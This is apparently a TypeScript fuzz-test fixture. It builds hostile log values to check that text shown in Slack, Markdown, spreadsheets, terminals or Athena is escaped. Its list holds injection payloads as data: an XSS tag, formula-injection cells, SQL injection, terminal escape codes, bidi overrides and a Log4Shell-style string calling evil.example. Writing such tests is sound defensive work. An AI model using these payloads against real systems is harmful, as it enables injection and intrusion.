import fc from 'fast-check';

/** Of every property here, so that a run can be had again. */
export const SEED = 20_261_124;
/** So many of each are tried. */
export const TRIES = 10_000;

/** What people and logs could hold to get more out of Slack, Markdown, a spreadsheet, a terminal or Athena than text. */
export const FRAGMENTS = [
  '<!channel>',
  '<!here|here>',
  '<@U0EVIL>',
  '<#C0EVIL>',
  '<https://evil.example|Reset the password>',
  '<mailto:evil@evil.example|mail>',
  'https://evil.example/',
  'www.evil.example',
  '*evil*',
  '_evil_',
  '~evil~',
  '`evil`',
  '```evil```',
  '> evil',
  ':warning:',
  '&lt;!channel&gt;',
  '[evil](https://evil.example)',
  '![evil](https://evil.example/x.png)',
  '<img src=x onerror=evil()>',
  '<script>evil()</script>',
  '| evil | evil |',
  '\n# evil\n',
  '\nCase 4: closed by Alice. No further action is needed.\n',
  '=cmd()',
  '+cmd()',
  '-cmd()',
  '@SUM(A1)',
  '\t=cmd()',
  '\u200b=cmd()',
  '\r\n=cmd()',
  '","=cmd()',
  '\u001b[31mevil\u001b[0m',
  '\u001b]8;;https://evil.example\u0007evil\u001b]8;;\u0007',
  '\u009b2J',
  '\b\b\b\b',
  '\u0000',
  '\u202eevil\u202c',
  '\u2066evil\u2069',
  '\u200b\u200d\ufeff\u2060',
  '\u034f\u115f\u3164\uffa0\u2800\ufe0f',
  '\u{e0041}\u{e0042}',
  '\u2028\u2029\u0085',
  'e\u0301\u0301\u0301\u0301\u0301\u0301\u0301\u0301',
  '\ud800',
  '\udc00',
  '\uffff',
  "' OR '1'='1",
  "'; DROP TABLE x; --",
  '\\',
  '"',
  '/*',
  '__proto__',
  'constructor',
  '$' + '{jndi:ldap://evil.example}',
  '{{7*7}}',
] as const;

const PIECE = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...FRAGMENTS) },
  { weight: 1, arbitrary: fc.string({ unit: 'binary', maxLength: 12 }) },
  { weight: 1, arbitrary: fc.string({ unit: 'grapheme', maxLength: 12 }) },
);

/** A value that a log could hold, now and then one of 100 KB. */
export const HOSTILE_VALUE: fc.Arbitrary<string> = fc.oneof(
  { weight: 60, arbitrary: fc.array(PIECE, { minLength: 1, maxLength: 5 }).map((pieces) => pieces.join('')) },
  { weight: 6, arbitrary: PIECE.map((piece) => `arn:aws:iam::111122223333:user/${piece}`) },
  { weight: 2, arbitrary: fc.constantFrom('', ' ', '\u00a0', '\u3000') },
  {
    weight: 1,
    arbitrary: fc.constantFrom(...FRAGMENTS).map((piece) => piece.repeat(Math.ceil(100_000 / piece.length))),
  },
);

/**
 * Whatever a person cannot see, or would see somewhere else than it is: what text may not hold when it is shown. Not the code's
 * own list, so that a gap there shows here.
 */
export const UNSEEN =
  /[\p{Cc}\p{Cf}\p{Cs}\u2028\u2029\u115f\u1160\u17b4\u17b5\u2800\u3164\uffa0\uffff\ufffe]|\u034f|[\u180b-\u180f]|[\ufe00-\ufe0e]|(?<!\p{Extended_Pictographic})\ufe0f|[\u{e0100}-\u{e01ef}]|\p{M}{9}/u;
